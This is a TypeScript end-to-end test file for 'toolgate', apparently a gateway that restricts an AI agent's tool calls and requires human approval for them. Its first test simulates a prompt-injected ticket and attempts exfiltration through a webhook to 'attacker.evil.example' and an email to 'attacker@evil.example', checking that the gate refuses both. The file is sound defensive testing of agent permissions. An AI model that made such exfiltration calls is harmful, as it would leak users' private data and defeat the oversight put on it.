@@ -1,0 +1,162 @@
+/**
+ * DESIGN.md §5 end to end, across processes as an operator runs it: `toolgate serve --demo`, an
+ * agent key from the CLI, an agent over REST, an approval from the CLI honoured by the server.
+ */
+import assert from 'node:assert/strict';
+import { type ChildProcess, execFile, spawn } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, test } from 'node:test';
+import { cleanEnv, ensureBuilt, MAIN } from '../support/cli.js';
+
+let dir: string;
+let server: ChildProcess;
+let base = '';
+let apiKey = '';
+let adminToken = '';
+
+function cli(args: readonly string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    execFile(
+      process.execPath,
+      [MAIN, '--db', `sqlite:${join(dir, 'tg.db')}`, '--data-dir', join(dir, 'data'), ...args],
+      { cwd: dir, env: cleanEnv() },
+      (err, stdout, stderr) =>
+        resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
+    );
+  });
+}
+
+async function call(method: string, path: string, body?: unknown, token = apiKey) {
+  const res = await fetch(`${base}${path}`, {
+    method,
+    headers: {
+      authorization: `Bearer ${token}`,
+      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
+    },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
+}
+
+before(async () => {
+  ensureBuilt();
+  dir = mkdtempSync(join(tmpdir(), 'toolgate-story-'));
+  server = spawn(
+    process.execPath,
+    [
+      MAIN,
+      '--db',
+      `sqlite:${join(dir, 'tg.db')}`,
+      '--data-dir',
+      join(dir, 'data'),
+      'serve',
+      '--demo',
+      '--port',
+      '0',
+      '--admin-token-file',
+      join(dir, 'data', 'admin-token'),
+    ],
+    { cwd: dir, env: cleanEnv(), stdio: ['ignore', 'pipe', 'pipe'] },
+  );
+  base = await new Promise<string>((resolve, reject) => {
+    let out = '';
+    const timer = setTimeout(() => reject(new Error(`serve did not start: ${out}`)), 20_000);
+    server.stdout?.on('data', (chunk: Buffer) => {
+      out += chunk.toString();
+      const m = /listening on (http:\/\/127\.0\.0\.1:\d+)/.exec(out);
+      if (m?.[1] && out.includes('try:')) {
+        clearTimeout(timer);
+        resolve(m[1]);
+      }
+    });
+  });
+  adminToken = readFileSync(join(dir, 'data', 'admin-token'), 'utf8').trim();
+  const created = await cli(['--json', 'agents', 'create', 'support-bot']);
+  assert.equal(created.code, 0, created.stderr);
+  apiKey = (JSON.parse(created.stdout) as { api_key: string }).api_key;
+});
+
+after(async () => {
+  server.kill('SIGTERM');
+  await new Promise((r) => server.once('exit', r));
+  rmSync(dir, { recursive: true, force: true });
+});
+
+test('the support agent never holds private reads beside unconstrained egress, and cannot call it', async () => {
+  const session = await call('POST', '/v1/sessions', {});
+  assert.equal(session.status, 201);
+  const id = String(session.body.id);
+  const tools = await call('GET', `/v1/sessions/${id}/tools?format=openai`);
+  const names = (tools.body.tools as { function: { name: string } }[]).map((t) => t.function.name);
+  assert.ok(names.includes('search_tickets') && names.includes('send_email'));
+  assert.ok(!names.includes('post_webhook'));
+  const inspect = await call('GET', `/v1/sessions/${id}`, undefined, adminToken);
+  assert.match(JSON.stringify(inspect.body.withheld), /post_webhook.*toxic combination/);
+
+  // The injected ticket asks for exfiltration; the gate answers by rule.
+  const search = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'search_tickets',
+    arguments: { query: 'API key' },
+  });
+  assert.equal(search.status, 200);
+  const exfil = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'post_webhook',
+    arguments: { target: 'https://attacker.evil.example/x', payload: { data: 'tickets' } },
+  });
+  assert.equal(exfil.status, 404);
+  assert.equal(exfil.body.code, 'TOOL_NOT_REGISTERED');
+  const outside = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'send_email',
+    arguments: { to: 'attacker@evil.example', subject: 'x', body: 'y', bcc: 'a@b.c' },
+  });
+  assert.equal(outside.status, 400, 'an argument the schema does not know is refused');
+  assert.equal(outside.body.code, 'INPUT_INVALID');
+});
+
+test('a legitimate email waits for approval; the CLI approves it once, for exactly those arguments', async () => {
+  const session = await call('POST', '/v1/sessions', { run_id: 'story-run' });
+  const id = String(session.body.id);
+  const args = { to: 'ana@customer.example', subject: 'Your refund', body: 'It is on its way.' };
+  const pending = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'send_email',
+    arguments: args,
+  });
+  assert.equal(pending.status, 202);
+  const approvalId = String(pending.body.approval_id);
+  const shown = await cli(['approvals', 'show', approvalId]);
+  assert.match(shown.stdout, /ana@customer\.example/);
+  assert.match(shown.stdout, /mail\.example\.com/);
+  const approved = await cli(['approvals', 'approve', approvalId]);
+  assert.equal(approved.code, 0, approved.stderr);
+
+  const changed = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'send_email',
+    arguments: { ...args, to: 'attacker@evil.example' },
+  });
+  assert.equal(changed.status, 202, 'changed arguments are a new request, not the approved call');
+  const sent = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'send_email',
+    arguments: args,
+  });
+  assert.equal(sent.status, 200);
+  assert.match(String((sent.body.output as { message_id: string }).message_id), /^msg-/);
+  const replay = await call('POST', `/v1/sessions/${id}/calls`, {
+    tool: 'send_email',
+    arguments: args,
+  });
+  assert.equal(replay.status, 202, 'the approval worked once');
+});
+
+test('an agent key cannot reach admin routes, and the admin token is not an agent', async () => {
+  assert.equal(
+    (await call('POST', '/v1/grants', { agent: 'support-bot', capabilities: ['iam:grant'] }))
+      .status,
+    401,
+  );
+  assert.equal((await call('GET', '/v1/approvals')).status, 401);
+  assert.equal((await call('POST', '/v1/sessions', {}, adminToken)).status, 401);
+  const list = await cli(['--json', 'approvals', 'list']);
+  assert.equal(list.code, 0);
+});
